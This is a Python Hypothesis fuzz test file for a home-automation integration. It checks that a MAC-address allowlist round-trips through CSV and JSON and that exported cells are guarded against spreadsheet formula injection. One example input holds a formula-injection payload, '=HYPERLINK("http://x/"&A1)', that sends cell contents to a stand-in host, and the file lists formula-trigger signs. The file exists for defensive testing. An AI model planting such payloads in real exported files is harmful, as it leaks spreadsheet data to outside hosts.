"""Lists of boards: what is written is read back, and no text does anything but raise the one error."""

import csv
from io import StringIO
import json
from typing import Final

from hypothesis import example, given, strategies as st

from custom_components.piorchestrator.client.models import LONGEST_TEXT, AllowlistEntry
from custom_components.piorchestrator.core.device_list import (
    DeviceListError,
    Row,
    guarded,
    read_list,
    unguarded,
)
from custom_components.piorchestrator.core.expected import (
    Compared,
    Status,
    compare,
    rows_to_csv,
    to_csv,
    to_json,
)
from tests.fuzz.strategies import json_values, texts

# Of boards: no address of a group, and not all zeros.
macs = (
    st.binary(min_size=6, max_size=6)
    .filter(lambda raw: any(raw) and raw[0] % 2 == 0)
    .map(lambda raw: ":".join(f"{byte:02X}" for byte in raw))
)
# What spreadsheets, delimiters and quotes make trouble with, more often than chance would have it.
_NASTY = "\"',;\t\r\n =+-@\ufeff\x00\x0b\x0c\x1c\x85\u2028＝24:6F28"
# Signs of formulas, also those that look like one.
SIGNS: Final = "=+-@＝＋－＠﹦﹢﹣﹫−"
words = st.one_of(
    st.none(),
    texts,
    st.text(_NASTY, max_size=30),
    st.text(f"{SIGNS}{_NASTY}|ab", max_size=30),
    st.text(_NASTY, max_size=4).map(lambda text: f"x\n24:6F:28:00:00:0A;y\n{text}"),
    st.just("x" * LONGEST_TEXT),
)
entries = st.lists(
    st.builds(
        lambda mac, description, container_id, used: AllowlistEntry.model_validate(
            {"mac": mac, "description": description, "container_id": container_id, "used": used}
        ),
        macs,
        words,
        words,
        st.one_of(st.none(), st.booleans()),
    ),
    unique_by=lambda entry: entry.mac,
    max_size=8,
)
tables = st.lists(
    st.lists(
        st.one_of(macs, st.text(_NASTY, max_size=8), st.sampled_from(("mac", "name", "container", '"'))),
        max_size=4,
    ),
    max_size=6,
)


def kept(rows: tuple[Row, ...]) -> list[tuple[str, str | None, str | None]]:
    return [(row.mac, row.description, row.container_id) for row in rows]


@given(entries)
def test_export_is_taken_back_exactly(known: list[AllowlistEntry]) -> None:
    for text in (to_csv(known), to_json(known)):
        rows = read_list(text)
        assert kept(rows) == [(entry.mac, entry.description, entry.container_id) for entry in known]
        there = compare(rows, {entry.mac: entry for entry in known})
        assert there == tuple(Compared(row, Status.PRESENT) for row in rows)
    assert kept(read_list(rows_to_csv(read_list(to_csv(known))))) == kept(read_list(to_csv(known)))


def cells_of(text: str, separator: str, *, quotes: bool) -> list[str]:
    """Split a file as a spreadsheet does that uses this separator, and takes quotes for such or for characters."""
    if quotes:
        return [
            cell for record in csv.reader(StringIO(text, newline=""), delimiter=separator) for cell in record
        ]
    return [cell for line in text.splitlines() for cell in line.split(separator)]


def is_formula(cell: str, separator: str) -> bool:
    """Whether a spreadsheet may calculate the cell.

    Where cells are divided by spaces, a sign that stands alone is none; what the comma or quote of the file's own table
    then follows cannot be calculated either.
    """
    content = cell.lstrip(' \t\r\n\v\f\x00\x1c\x1d\x1e\x1f\x85\xa0\u2028\u2029\u3000\ufeff"')
    is_alone = separator == " " and content[1:2] in ("", ",", '"')
    return content.startswith(tuple(SIGNS)) and not is_alone


@example([AllowlistEntry(mac="24:6F:28:00:00:0A", description='shelf;=HYPERLINK("http://x/"&A1);x')])
@given(entries)
def test_no_cell_is_a_formula_whatever_the_separator(known: list[AllowlistEntry]) -> None:
    for separator in ",;\t| ":
        for quotes in (True, False):
            for cell in cells_of(to_csv(known), separator, quotes=quotes):
                assert not is_formula(cell, separator), (separator, cell)


@given(entries)
def test_other_readers_see_the_same_table(known: list[AllowlistEntry]) -> None:
    """But for the apostrophes that make texts of formulas."""
    header, *records = csv.reader(StringIO(to_csv(known), newline=""))
    assert header[:3] == ["mac", "description", "container_id"]
    assert [record[0] for record in records] == [entry.mac for entry in known]
    for record, entry in zip(records, known, strict=True):
        for cell, text in zip(record[1:3], (entry.description, entry.container_id), strict=True):
            assert cell.replace("'", "") == (text or "").replace("'", "")
            assert (
                cell == text or any(sign in (text or "") for sign in (*SIGNS, "\t", "\r", "\n")) or not text
            )


@example("it's; '=x \"'=\t'\t''=")
@given(st.one_of(texts, st.text(f"{SIGNS}{_NASTY}|x1\v", max_size=40)))
def test_a_guard_is_taken_away_exactly(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert unguarded(guarded(guarded(text))) == guarded(text)
    assert guarded(text).replace("'", "") == text.replace("'", "")


@example(",")
@example('"";""')
@given(
    st.one_of(
        texts,
        st.text(_NASTY, max_size=200),
        json_values.map(json.dumps),
        st.lists(json_values, max_size=4).map(json.dumps),
        st.tuples(tables, st.sampled_from(",;\t"), st.sampled_from(("\n", "\r\n", "\r"))).map(
            lambda drawn: drawn[2].join(drawn[1].join(cells) for cells in drawn[0])
        ),
    )
)
def test_any_text_is_rows_or_the_error(text: str) -> None:
    try:
        rows = read_list(text)
    except DeviceListError as error:
        assert error.problem  # noqa: PT017 - both outcomes are right
        return
    good = [row for row in rows if row.reason is None]
    assert len({row.mac for row in good}) == len(good)
    assert all(row.mac.count(":") == 5 and len(row.mac) == 17 for row in good)
    assert [row.line for row in rows] == sorted({row.line for row in rows})
    assert kept(read_list(rows_to_csv(good))) == kept(tuple(good))
